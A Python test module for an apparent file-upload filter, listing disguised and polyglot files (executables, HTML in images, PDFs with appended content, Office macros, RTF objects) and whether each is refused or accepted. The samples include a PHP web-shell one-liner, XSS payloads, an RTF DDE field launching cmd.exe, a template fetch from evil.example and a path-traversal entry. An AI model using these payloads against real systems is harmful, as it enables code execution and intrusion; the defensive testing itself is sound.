"""Programs, pages, scripts and documents that are something else, too."""

import gzip
import pickle

from tests.modules.materials.corpus.cases import TEXT, WORD, ZIP, Hostile, refused, taken
from tests.modules.materials.corpus.contents import (
    LETTER,
    Runs,
    bitmap_that_is_a_script,
    disc_image,
    gif_that_is_a_script,
    gif_with,
    jpeg_that_is_a_script,
    jpeg_with_comment,
    sound_that_is_a_script,
    word_with_an_object,
)
from tests.modules.materials.photos import chunk, png_with
from tests.modules.materials.samples import (
    ELF,
    GIF,
    LONG_LIST,
    PAGE,
    PDF,
    SVG,
    WINDOWS,
    bitmap,
    compound,
    iso_media,
    mp3,
    office,
    open_document,
    png,
    powerpoint,
    saved,
    workbook,
    zipped,
    zipped_parts,
)

PROGRAMS_AND_DOCUMENTS: dict[str, list[Hostile]] = {
    "programs under another name": [
        refused("of Windows", WINDOWS),
        refused(
            "of Windows, from before there were windows in it", b"MZ" + bytes(58) + b"\x40\x00\x00\x00NE" + bytes(64)
        ),
        refused("of Linux", ELF, name="slides.pdf"),
        refused("of a Mac", b"\xcf\xfa\xed\xfe\x0c\x00\x00\x01" + bytes(64)),
        refused("of an old Mac", b"Joy!peffpwpc" + bytes(64)),
        refused("of DOS, which begins with nothing", b"\xb4\x09\xba\x0d\x01\xcd\x21\xc3" + b"hello$\x00\xff"),
        refused("of Windows, that is a tar archive too", WINDOWS.ljust(257, b"\x00") + b"ustar\x0000" + bytes(300)),
    ],
    "bytecode": [
        refused("of Java", b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(64)),
        refused("of browsers", b"\x00asm\x01\x00\x00\x00" + bytes(16)),
        refused("of Android", b"dex\n035\x00" + bytes(64)),
        refused("of Lua", b"\x1bLua\x53\x00\x19\x93\r\n\x1a\n" + bytes(32)),
        refused("of Python", b"\xa7\x0d\x0d\x0a" + bytes(64)),
        refused("objects of Python that run something", pickle.dumps(Runs(), protocol=4)),
    ],
    "scripts with a program behind them": [
        refused("of a shell", b"#!/bin/sh\nexec tail -c +40 $0\n" + ELF),
        refused("of PHP, with an archive of its own", b"<?php __HALT_COMPILER(); ?>\r\n" + bytes(4) + b"\x11\x00GBMB"),
        refused("of Python", b"import zipfile\n" + zipped(x=b"y"), name="setup.py"),
        refused("of Windows", b"@echo off\r\n" + WINDOWS, name="install.bat"),
    ],
    "pages": [
        refused("in HTML", PAGE, name="notes.txt"),
        refused("in capitals", b"<HTML><BODY onload=alert(1)>"),
        refused("in XHTML", b'<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'),
        refused("that is a program of Windows (HTA)", b'<hta:application id="x"/>\n<p>Hello</p>'),
        refused("in a letter (MHTML)", LETTER),
        refused("that is a script alone", b"<script>alert(1)</script>"),
        refused("that is a picture alone", b'<img src=x onerror="alert(1)">'),
    ],
    "pages in disguise": [
        refused("behind a byte order mark", b"\xef\xbb\xbf" + PAGE),
        refused("behind blank space", b" \t\r\n\x0c" * 50_000 + PAGE),
        refused("behind a word", b"GIF89a;<html><script>alert(1)</script></html>"),
        refused("behind comments", b"<!-- a --><!--->\n<!-->" + PAGE),
        refused("behind a thousand comments", b"<!-- -->" * 1000 + PAGE),
        refused("in UTF-16", PAGE.decode().encode("utf-16")),
        refused("in UTF-16 that does not say so", PAGE.decode().encode("utf-16-le")),
        refused("in UTF-32", PAGE.decode().encode("utf-32")),
        refused("with NULs in it", b"\x00".join(bytes([letter]) for letter in PAGE)),
        refused("in Latin letters of one byte", b"<html>\xfc</html>"),
        taken("in UTF-7, which is letters and stays letters", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", TEXT),
        taken("behind a sentence, which makes it a text", b"Write this: <script>alert(1)</script>", TEXT),
    ],
    "SVG": [
        refused("with a script", SVG),
        refused("behind a prolog", b'<?xml version="1.0"?>\n' + SVG),
        refused("behind entities", b'<!DOCTYPE x [<!ENTITY a "<b>">]>\n' + SVG),
        refused("with a prefix", b'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>'),
        refused("in UTF-16", SVG.decode().encode("utf-16")),
        taken(
            "packed, which no browser unpacks by itself", gzip.compress(SVG, mtime=0), "application/gzip", name="x.svgz"
        ),
    ],
    "pages in pictures": [
        refused("in the comment of a PNG", png(text=PAGE)),
        refused("behind a PNG", png(after=PAGE)),
        refused("behind the first bytes of a PNG", b"\x89PNG\r\n\x1a\n" + PAGE),
        refused("in the comment of a GIF", gif_with(b" " * 300 + SVG)),
        refused("in the middle of a JPEG, far from both ends", jpeg_with_comment(PAGE + bytes(50_000), behind=5)),
        refused("behind a bitmap", bitmap() + PAGE),
    ],
    "scripts in pictures": [
        refused("of PHP in a PNG", png(text=b"<?php system($_GET['c']); ?>")),
        refused(
            "of PHP in a JPEG, with an archive",
            jpeg_with_comment(b"<?php __HALT_COMPILER(); ?>" + bytes(70_000 - 10_000)),
        ),
        refused("a GIF that is JavaScript too", gif_that_is_a_script()),
        refused("a bitmap that is JavaScript too", bitmap_that_is_a_script()),
        refused("a JPEG that is JavaScript too", jpeg_that_is_a_script()),
        refused("a sound that is JavaScript too", sound_that_is_a_script()),
        taken("JavaScript that begins like a GIF", b"GIF89a/**/=1;alert(document.domain);", TEXT),
    ],
    "archives and programs in pictures": [
        refused("a zip behind a GIF", GIF + zipped(x=b"y")),
        refused("a zip with too long a list behind a PNG", png() + LONG_LIST),
        refused("a RAR behind a JPEG", saved("JPEG") + b"Rar!\x1a\x07\x01\x00" + bytes(64)),
        refused("a 7z in a PNG", png_with(chunk(b"raRe", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64)))),
        refused("a program behind a PNG", png(after=ELF)),
        refused(
            "a program of Windows in a GIF", gif_with(WINDOWS + b"!This program cannot be run in DOS mode.\r\r\n$")
        ),
        refused("a PDF in the comment of a PNG", png(text=PDF)),
    ],
    "PDF and something else": [
        refused("a page behind it", PDF + PAGE),
        refused("a page behind its first bytes", b"%PDF-1.4\n<html><script>alert(1)</script></html>"),
        refused("a page in front of it", PAGE + PDF, name="slides.pdf"),
        refused("a zip behind it", PDF + zipped(x=b"y"), name="slides.pdf"),
        refused("a program behind it", PDF + WINDOWS, name="slides.pdf"),
        refused("a long something behind it", PDF + b"\x00\xff" * 2000, name="slides.pdf"),
        refused("a disc in it", disc_image(PDF), name="slides.pdf"),
        refused("bytes in front of it, where readers would still find it", b"\x00\x01" * 100 + PDF, name="slides.pdf"),
        taken(
            "a script in it, as forms have them",
            PDF.replace(b"<</Type /Catalog>>", b"<</Type /Catalog /OpenAction <</S /JavaScript /JS (app.alert(1))>>>>"),
            "application/pdf",
            name="form.pdf",
        ),
    ],
    "archives and something else": [
        refused("a program that unpacks itself", WINDOWS + zipped(x=b"y"), name="archive.zip"),
        refused("a page in front", PAGE + zipped(x=b"y"), name="archive.zip"),
        refused(
            "an archive in front that is none", b"PK\x03\x04" + PAGE + bytes(64) + zipped(x=b"y"), name="archive.zip"
        ),
        refused("an archive that cannot be read", b"PK\x03\x04" + bytes(200), name="archive.zip"),
        taken("a PDF as its first part, as anybody has it", zipped_parts([("a.pdf", PDF)]), ZIP, name="archive.zip"),
        taken("a page in it", zipped_parts([("index.html", PAGE)]), ZIP, name="archive.zip"),
        taken("paths in it that lead out of it", zipped_parts([("../../etc/passwd", b"x")]), ZIP, name="archive.zip"),
    ],
    "sound and video with pages in them": [
        refused(
            "an MP3 with a page for a tag", b"ID3\x03\x00\x00\x00\x00\x00\x00" + PAGE + b"\x00\xff", name="song.mp3"
        ),
        refused("a page behind an MP3", mp3() + PAGE, name="song.mp3"),
        refused(
            "an MP4 with a page in its first box", iso_media(b"isom") + b"\x00\x00\x01\x00free" + PAGE, name="a.mp4"
        ),
        refused("a zip behind an MP4", iso_media(b"isom") + zipped(x=b"y"), name="a.mp4"),
    ],
    "macros in documents of Office": [
        refused("Word", office(more=("word/vbaProject.bin",)), name="letter.docx"),
        refused("Word, in capitals", office(more=("WORD/VBAPROJECT.BIN",)), name="letter.docx"),
        refused(
            "Word, under another name",
            office(types='<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>'),
            name="letter.docx",
        ),
        refused("Excel, as of 1992", office("spreadsheetml.sheet", more=("xl/macrosheets/sheet1.xml",)), name="a.xlsx"),
        refused(
            "controls that run (ActiveX)", office(types="application/vnd.ms-office.activeX+xml"), name="letter.docx"
        ),
    ],
    "macros in old documents of Office": [
        refused("Word", compound({"WordDocument": b"text"}, storages=("Macros", "VBA")), name="letter.doc"),
        refused("Excel", compound({"Workbook": workbook(0)}, storages=("_VBA_PROJECT_CUR",)), name="a.xls"),
        refused("Excel, as of 1992", compound({"Workbook": workbook(0, 1)}), name="a.xls"),
        refused(
            "Excel, encrypted so that nobody sees them",
            compound({"Workbook": workbook(0, encrypted=True)}),
            name="a.xls",
        ),
        refused("PowerPoint", compound({"PowerPoint Document": powerpoint(macros=True)}), name="a.ppt"),
    ],
    "scripts in OpenDocument": [
        refused("Basic", open_document("text", "Basic/Standard/Module1.xml"), name="letter.odt"),
        refused("Python", open_document("spreadsheet", "Scripts/python/run.py"), name="table.ods"),
    ],
    "objects in documents": [
        refused("RTF", rb"{\rtf1{\object\objemb{\*\objdata 0105000002000000}}}", name="letter.rtf"),
        refused("RTF, loaded at once", rb"{\rtf1{\object\objautlink\objupdate}}", name="letter.doc"),
        refused("RTF, behind a backslash that is text", rb"{\rtf1 \\\objdata 01050000}", name="letter.rtf"),
        refused("RTF that is none, but Word reads it", rb"{\rt{\*\objdata 01050000}}", name="letter.doc"),
        refused("RTF that only writes about them", rb"{\rtf1 It is written \\objdata.}", name="letter.rtf"),
        refused("RTF that starts a program", rb"{\rtf1{\field{\*\fldinst DDEAUTO c:\\cmd.exe}}}", name="letter.rtf"),
        refused("RTF that fetches a template", rb"{\rtf1{\*\template http://evil.example/x.dotm}}", name="letter.rtf"),
        taken("Word, which has formulas in this way", word_with_an_object(), WORD, name="letter.docx"),
    ],
}
